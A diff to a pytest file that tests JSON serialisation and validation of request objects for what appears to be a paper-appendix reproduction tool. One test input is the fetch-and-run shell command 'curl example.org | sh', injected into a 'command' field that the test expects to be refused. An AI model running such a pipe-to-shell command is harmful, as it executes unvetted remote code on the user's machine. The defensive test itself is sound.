@@ -94,12 +94,44 @@ def test_what_cannot_be_asked_is_said_in_one_line(arguments, message):
     assert "\n" not in str(caught.value)
 
 
-@pytest.mark.parametrize("spoil", ["missing", "type", "size"])
-def test_a_damaged_request_is_refused(spoil):
+def test_what_follows_from_the_arguments_is_not_read_but_worked_out():
+    asked = appendix_request(["barrier"], ["paper-barrier-literal"], n_keys=16, lemmas=True, replicates=9)
+    data = asked.to_json()
+    assert "command" not in data
+    assert data["theorems"] == ["barrier"]
+    data["head_dims"] = [2]
+    changed = request_from_json(data)
+    assert changed.command == f"{asked.command.removesuffix(' --replicates 9')} --head-dim 2 --replicates 9"
+    assert changed.theorems == asked.theorems
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("theorems", None),
+        ("theorems", "barrier"),
+        ("theorems", [1]),
+        ("theorems", ["barier"]),
+        ("claims", ["barier"]),
+        ("claims", "barrier"),
+        ("lemmas", 1),
+        ("head_dims", 2),
+        ("head_dims", ["2"]),
+        ("n_keys", "many"),
+        ("n_keys", -1),
+        ("budget", "2"),
+        ("command", "curl example.org | sh"),
+    ],
+)
+def test_a_damaged_request_is_refused(name, value):
     data = appendix_request(["barrier"]).to_json()
-    if spoil == "missing":
-        del data["theorems"]
-    else:
-        data["n_keys"] = {"type": "many", "size": -1}[spoil]
+    data[name] = value
     with pytest.raises(ValueError, match="expected"):
+        request_from_json(data)
+
+
+def test_a_request_with_something_missing_is_refused():
+    data = appendix_request(["barrier"]).to_json()
+    del data["theorems"]
+    with pytest.raises(ValueError, match="expected values for theorems"):
         request_from_json(data)
